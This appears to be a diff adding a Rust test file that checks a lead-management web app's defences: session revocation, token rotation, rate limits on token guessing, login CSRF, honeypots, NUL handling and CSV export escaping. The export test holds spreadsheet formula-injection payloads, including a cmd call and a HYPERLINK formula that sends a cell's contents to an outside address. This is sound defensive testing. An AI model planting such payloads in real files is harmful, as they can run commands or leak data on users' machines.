@@ -1,0 +1,309 @@
+//! The doors a hostile client or a careless operator would try (issue 9, SECURITY.md): revoked
+//! reps, rotated tokens, guessing, login CSRF, admin endpoints, honeypots. Storage-backed
+//! behaviour runs on both backends.
+
+use std::net::IpAddr;
+
+use reqwest::StatusCode;
+use reqwest::header::{COOKIE, LOCATION};
+use serde_json::{Value, json};
+
+use crate::both;
+use crate::dashboard::{Web, cookie_in, field_in};
+use crate::support::{ADMIN, BASE_CONFIG, Db, TestApp, error_code};
+
+const ANNA: &str = "anna-token-for-tests-0123456789";
+const BEN: &str = "ben-token-for-tests-0123456789";
+
+/// A client whose connections come from `ip` (any address of 127.0.0.0/8 is this machine).
+fn client_from(ip: [u8; 4]) -> reqwest::Client {
+    reqwest::Client::builder().local_address(IpAddr::from(ip)).build().expect("client")
+}
+
+async fn revoked_and_deactivated_reps_lose_access_at_once(db: Db) {
+    let app = TestApp::spawn(db, "").await;
+    for i in 0..4 {
+        app.submit("contact", json!({"name": format!("P{i}"), "email": format!("p{i}@example.com")})).await;
+    }
+    let mut anna = Web::new(&app);
+    assert_eq!(anna.login(ANNA).await.status, StatusCode::SEE_OTHER);
+    assert_eq!(anna.get("/app").await.status, StatusCode::OK);
+    let mut ben = Web::new(&app);
+    assert_eq!(ben.login(BEN).await.status, StatusCode::SEE_OTHER);
+    assert_eq!(app.get_as(ANNA, "/api/v1/leads").await.0, StatusCode::OK);
+
+    // Made inactive through the API: the token and the session stop working with that answer.
+    let (status, body) = app.patch("/api/v1/reps/anna", json!({"active": false})).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let (status, body) = app.get_as(ANNA, "/api/v1/leads").await;
+    assert_eq!((status, error_code(&body)), (StatusCode::UNAUTHORIZED, "unauthorized"));
+    let lead = app.leads("").await[0]["id"].as_str().expect("id").to_owned();
+    let (status, _) = app
+        .send_as(ANNA, reqwest::Method::POST, &format!("/api/v1/leads/{lead}/notes"), &json!({"text": "still here?"}))
+        .await;
+    assert_eq!(status, StatusCode::UNAUTHORIZED);
+    let page = anna.get("/app").await;
+    assert_eq!((page.status, page.location.as_deref()), (StatusCode::SEE_OTHER, Some("/app/login")));
+    assert_eq!(anna.login(ANNA).await.status, StatusCode::UNAUTHORIZED, "nor can she sign in again");
+    assert_eq!(app.count("SELECT COUNT(*) FROM sessions WHERE actor = 'rep:anna'").await, 0);
+    assert_eq!(ben.get("/app").await.status, StatusCode::OK, "other reps are not affected");
+
+    // Removed from the config: after the restart that applies it, the same.
+    let cookie = ben.cookie.clone();
+    let db_handle = app.stop_keep_db().await;
+    let without_ben = BASE_CONFIG.replace(
+        "[[reps]]\nid = \"ben\"\nname = \"Ben\"\napi_token = \"ben-token-for-tests-0123456789\"\nteams = [\"sales\"]\n",
+        "",
+    );
+    assert!(!without_ben.contains("id = \"ben\""), "the config no longer has ben");
+    let app = TestApp::spawn_on(db_handle, &without_ben).await;
+    let (status, _) = app.get_as(BEN, "/api/v1/leads").await;
+    assert_eq!(status, StatusCode::UNAUTHORIZED);
+    let mut ben = Web::new(&app);
+    ben.cookie = cookie;
+    assert_eq!(ben.get("/app").await.status, StatusCode::SEE_OTHER);
+    let reps = app.get("/api/v1/reps").await;
+    let ben_row = reps["items"].as_array().expect("reps").iter().find(|r| r["id"] == "ben").cloned();
+    assert_eq!(ben_row.map(|r| r["active"].clone()), Some(json!(false)), "kept for history, inactive");
+    // Reactivated, the rep's own token works again (it was never rotated).
+    let (status, _) = app.patch("/api/v1/reps/anna", json!({"active": true})).await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(app.get_as(ANNA, "/api/v1/leads").await.0, StatusCode::OK);
+}
+both!(revoked_and_deactivated_reps_lose_access_at_once);
+
+async fn sessions_end_when_their_token_is_rotated(db: Db) {
+    let app = TestApp::spawn(db, "").await;
+    let mut admin = Web::new(&app);
+    assert_eq!(admin.login(ADMIN).await.status, StatusCode::SEE_OTHER);
+    assert_eq!(admin.get("/app/analytics").await.status, StatusCode::OK);
+    let mut anna = Web::new(&app);
+    assert_eq!(anna.login(ANNA).await.status, StatusCode::SEE_OTHER);
+    let (admin_cookie, anna_cookie) = (admin.cookie.clone(), anna.cookie.clone());
+
+    let db_handle = app.stop_keep_db().await;
+    let rotated =
+        BASE_CONFIG.replace(ADMIN, "admin-token-rotated-9876543210").replace(ANNA, "anna-token-rotated-9876543210");
+    let app = TestApp::spawn_on(db_handle, &rotated).await;
+    let mut admin = Web::new(&app);
+    admin.cookie = admin_cookie;
+    let page = admin.get("/app/analytics").await;
+    assert_eq!(
+        (page.status, page.location.as_deref()),
+        (StatusCode::SEE_OTHER, Some("/app/login?next=%2Fapp%2Fanalytics")),
+        "a session made with the old admin token ends with it"
+    );
+    let mut anna = Web::new(&app);
+    anna.cookie = anna_cookie;
+    assert_eq!(anna.get("/app").await.status, StatusCode::SEE_OTHER, "and so does a rep's");
+    assert_eq!(app.get_as(ADMIN, "/api/v1/leads").await.0, StatusCode::UNAUTHORIZED);
+    assert_eq!(app.get_as("admin-token-rotated-9876543210", "/api/v1/leads").await.0, StatusCode::OK);
+    assert_eq!(admin.login("admin-token-rotated-9876543210").await.status, StatusCode::SEE_OTHER);
+    assert_eq!(admin.get("/app/analytics").await.status, StatusCode::OK, "the new token signs in");
+    assert_eq!(app.count("SELECT COUNT(*) FROM sessions").await, 1, "ended sessions are removed");
+}
+both!(sessions_end_when_their_token_is_rotated);
+
+#[tokio::test]
+async fn guessing_tokens_is_answered_429_per_client() {
+    let config = BASE_CONFIG.replace("[auth]\n", "[auth]\nfailure_limit = 10\nfailure_window = \"1m\"\n");
+    let app = TestApp::spawn_with(Db::Sqlite, &config).await;
+    let guesser = client_from([127, 0, 0, 7]);
+    let mut statuses = Vec::new();
+    for i in 0..300 {
+        let r = guesser
+            .get(app.url("/api/v1/leads"))
+            .bearer_auth(format!("guess-{i:04}-aaaaaaaaaaaaaaaaaaaa"))
+            .send()
+            .await
+            .expect("request");
+        statuses.push(r.status());
+        if r.status() == StatusCode::TOO_MANY_REQUESTS {
+            assert!(r.headers().contains_key("retry-after"));
+        }
+    }
+    let unauthorized = statuses.iter().filter(|s| **s == StatusCode::UNAUTHORIZED).count();
+    let limited = statuses.iter().filter(|s| **s == StatusCode::TOO_MANY_REQUESTS).count();
+    assert_eq!((unauthorized, limited), (10, 290), "ten tries, then the client waits");
+    // While limited even the right token is not checked: guessing cannot tell a hit.
+    let r = guesser.get(app.url("/api/v1/leads")).bearer_auth(ADMIN).send().await.expect("request");
+    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
+    // The sign-in form counts against the same budget.
+    let page = guesser.get(app.url("/app/login")).send().await.expect("form");
+    let nonce = page.headers().get("set-cookie").and_then(|v| v.to_str().ok()).and_then(|c| cookie_in(c, "lr_login"));
+    let csrf = field_in(&page.text().await.expect("body"), "login_csrf");
+    let r = guesser
+        .post(app.url("/app/login"))
+        .header(COOKIE, format!("lr_login={}", nonce.expect("cookie")))
+        .form(&[("token", ADMIN), ("login_csrf", &csrf)])
+        .send()
+        .await
+        .expect("post");
+    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
+    // Everyone else is unaffected.
+    let other = client_from([127, 0, 0, 8]);
+    let r = other.get(app.url("/api/v1/leads")).bearer_auth(ADMIN).send().await.expect("request");
+    assert_eq!(r.status(), StatusCode::OK);
+}
+
+async fn login_posts_from_other_sites_are_refused(db: Db) {
+    let app = TestApp::spawn(db, "").await;
+    let http = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().expect("client");
+    // Without our form's token (a page elsewhere posting a token of the attacker's choosing).
+    let r = http.post(app.url("/app/login")).form(&[("token", ADMIN)]).send().await.expect("post");
+    assert_eq!(r.status(), StatusCode::FORBIDDEN);
+    // With the token but from another origin.
+    let form = http.get(app.url("/app/login")).send().await.expect("form");
+    let nonce = form.headers().get("set-cookie").and_then(|v| v.to_str().ok()).and_then(|c| cookie_in(c, "lr_login"));
+    let nonce = nonce.expect("lr_login cookie");
+    let csrf = field_in(&form.text().await.expect("body"), "login_csrf");
+    let post = |origin: String| {
+        http.post(app.url("/app/login"))
+            .header(COOKIE, format!("lr_login={nonce}"))
+            .header("origin", origin)
+            .form(&[("token", ADMIN), ("login_csrf", csrf.as_str())])
+            .send()
+    };
+    let r = post("http://127.0.0.9:8080".into()).await.expect("post");
+    assert_eq!(r.status(), StatusCode::FORBIDDEN);
+    assert_eq!(app.count("SELECT COUNT(*) FROM sessions").await, 0, "no session was made");
+    // Our own origin, as a browser sends it, signs in.
+    let r = post(app.addr.clone()).await.expect("post");
+    assert_eq!(
+        (r.status(), r.headers().get(LOCATION).map(|v| v.as_bytes())),
+        (StatusCode::SEE_OTHER, Some(&b"/app"[..]))
+    );
+    assert_eq!(app.count("SELECT COUNT(*) FROM sessions").await, 1);
+}
+both!(login_posts_from_other_sites_are_refused);
+
+#[tokio::test]
+async fn admin_endpoints_refuse_reps_before_reading_the_body() {
+    let app = TestApp::spawn(Db::Sqlite, "").await;
+    let lead = app.submit("contact", json!({"name": "Ada", "email": "ada@example.com"})).await;
+    let contact = app.lead(&lead).await["contact"]["id"].as_str().expect("contact").to_owned();
+    for (method, path, body) in [
+        (reqwest::Method::POST, format!("/api/v1/contacts/{contact}/merge"), json!({"not": "the schema"})),
+        (reqwest::Method::POST, "/api/v1/reps".to_owned(), json!({"nonsense": true})),
+        (reqwest::Method::PATCH, "/api/v1/reps/anna".to_owned(), json!({"capacity": "many"})),
+        (reqwest::Method::POST, "/api/v1/leads".to_owned(), json!([])),
+    ] {
+        let (status, body) = app.send_as(ANNA, method, &path, &body).await;
+        assert_eq!((status, error_code(&body)), (StatusCode::FORBIDDEN, "forbidden"), "{path}: {body}");
+        assert!(!body.to_string().contains("other_id"), "no schema leaks: {body}");
+    }
+}
+
+async fn a_caught_bot_gets_the_answer_a_person_gets(db: Db) {
+    let app = TestApp::spawn(
+        db,
+        "[[forms]]\nid = \"trap\"\nhoneypot = \"website\"\nredirect_to = \"http://127.0.0.1:9/thanks\"\n",
+    )
+    .await;
+    let http = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().expect("client");
+    let post = |body: Value| http.post(app.url("/api/v1/forms/trap")).json(&body).send();
+    let person = post(json!({"email": "person@example.com"})).await.expect("post");
+    let bot = post(json!({"email": "bot@example.com", "website": "http://127.0.0.1:9/spam"})).await.expect("post");
+    assert_eq!((person.status(), bot.status()), (StatusCode::ACCEPTED, StatusCode::ACCEPTED));
+    let location = |r: &reqwest::Response| r.headers().get(LOCATION).and_then(|v| v.to_str().ok()).map(str::to_owned);
+    let (person_at, bot_at) = (location(&person), location(&bot));
+    assert!(bot_at.as_deref().is_some_and(|l| l.starts_with("/api/v1/leads/")), "{bot_at:?}");
+    assert_eq!(person_at.map(|l| l.len()), bot_at.map(|l| l.len()), "the same shape of Location");
+    let (p, b): (Value, Value) = (person.json().await.expect("json"), bot.json().await.expect("json"));
+    assert_eq!(p.as_object().map(|o| o.keys().collect::<Vec<_>>()), b.as_object().map(|o| o.keys().collect()));
+    // A browser's post goes to the thank-you page either way.
+    let browser = |body: &'static str| {
+        http.post(app.url("/api/v1/forms/trap"))
+            .header("accept", "text/html")
+            .header("content-type", "application/x-www-form-urlencoded")
+            .body(body)
+            .send()
+    };
+    let person = browser("email=p2%40example.com").await.expect("post");
+    let bot = browser("email=b2%40example.com&website=x").await.expect("post");
+    assert_eq!((person.status(), bot.status()), (StatusCode::SEE_OTHER, StatusCode::SEE_OTHER));
+    assert_eq!(location(&bot).as_deref(), Some("http://127.0.0.1:9/thanks"));
+    assert_eq!(app.count("SELECT COUNT(*) FROM leads").await, 2, "only the people's posts are leads");
+}
+both!(a_caught_bot_gets_the_answer_a_person_gets);
+
+async fn exported_cells_never_run_as_formulas(db: Db) {
+    let app = TestApp::spawn(db, "").await;
+    let attacks = [
+        r#"=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")"#,
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|x",
+        "@SUM(1+1)*cmd|x",
+        "\t=1+1",
+    ];
+    for (i, attack) in attacks.iter().enumerate() {
+        app.submit("contact", json!({"email": format!("csv{i}@example.com"), "utm_source": attack})).await;
+    }
+    let r = app.client.get(app.url("/api/v1/stats/leads.csv")).bearer_auth(ADMIN).send().await.expect("csv");
+    assert_eq!(r.status(), StatusCode::OK);
+    let text = r.text().await.expect("body");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let column = reader.headers().expect("header").iter().position(|h| h == "utm_source").expect("utm_source column");
+    let cells: Vec<String> = reader.records().map(|r| r.expect("row")[column].to_owned()).collect();
+    assert_eq!(cells.len(), attacks.len());
+    for cell in &cells {
+        assert!(cell.starts_with('\''), "{cell:?} would be evaluated by a spreadsheet");
+        assert!(!cell[1..].starts_with('\''), "quoted once: {cell:?}");
+    }
+    assert!(cells.iter().any(|c| c == "'=1+1"), "a leading tab trimmed away still leaves an inert cell: {cells:?}");
+}
+both!(exported_cells_never_run_as_formulas);
+
+async fn nul_characters_behave_the_same_on_both_backends(db: Db) {
+    let app = TestApp::spawn(db, "").await;
+    // From a form (a channel): dropped, and the lead is stored.
+    let r = app
+        .post_form("contact", &json!({"name": "nul\u{0}byte", "email": "nul@example.com", "message": "a\u{0}b"}))
+        .await;
+    assert_eq!(r.status(), StatusCode::ACCEPTED);
+    let body: Value = r.json().await.expect("json");
+    let id = body["id"].as_str().expect("a 202 names a stored lead").to_owned();
+    let lead = app.lead(&id).await;
+    assert_eq!(lead["contact"]["name"], "nulbyte");
+    assert_eq!(lead["interactions"][0]["text"], "ab");
+    assert_eq!(app.count("SELECT COUNT(*) FROM inbound_items WHERE status = 'failed'").await, 0);
+    // In a URL: 400, on every kind of parameter, never a 500.
+    for path in [
+        "/api/v1/leads?q=%00".to_owned(),
+        "/api/v1/leads?cursor=a%00b".to_owned(),
+        "/api/v1/leads/ab%00cd".to_owned(),
+        "/api/v1/contacts?q=x%00".to_owned(),
+        format!("/api/v1/leads/{id}?x=%00"),
+    ] {
+        let (status, body) = app.get_as(ADMIN, &path).await;
+        assert_eq!((status, error_code(&body)), (StatusCode::BAD_REQUEST, "nul_character"), "{path}");
+    }
+    // In an API body: 400, and nothing changes.
+    let (status, body) = app
+        .send_as(ADMIN, reqwest::Method::POST, &format!("/api/v1/leads/{id}/notes"), &json!({"text": "x\u{0}y"}))
+        .await;
+    assert_eq!((status, error_code(&body)), (StatusCode::BAD_REQUEST, "nul_character"));
+    assert_eq!(app.lead(&id).await["interactions"].as_array().map(Vec::len), Some(1));
+    // A literal backslash-u is just text.
+    let (status, _) = app
+        .send_as(ADMIN, reqwest::Method::POST, &format!("/api/v1/leads/{id}/notes"), &json!({"text": r"\u0000"}))
+        .await;
+    assert_eq!(status, StatusCode::CREATED);
+}
+both!(nul_characters_behave_the_same_on_both_backends);
+
+async fn search_wildcards_are_literal(db: Db) {
+    let app = TestApp::spawn(db, "").await;
+    app.submit("contact", json!({"name": "Ada Lovelace", "email": "ada@example.com"})).await;
+    app.submit("contact", json!({"name": "100% Growth Ltd", "email": "growth@example.com"})).await;
+    app.submit("contact", json!({"name": "snake_case", "email": "snake@example.com"})).await;
+    let names = |items: Vec<Value>| {
+        items.iter().map(|l| l["contact"]["name"].as_str().unwrap_or("").to_owned()).collect::<Vec<_>>()
+    };
+    assert_eq!(names(app.leads("&q=%25").await), ["100% Growth Ltd"]);
+    assert_eq!(names(app.leads("&q=_").await), ["snake_case"]);
+    assert_eq!(names(app.leads("&q=ada").await), ["Ada Lovelace"]);
+    let contacts = app.get("/api/v1/contacts?q=%25").await;
+    assert_eq!(contacts["items"].as_array().map(Vec::len), Some(1));
+}
+both!(search_wildcards_are_literal);
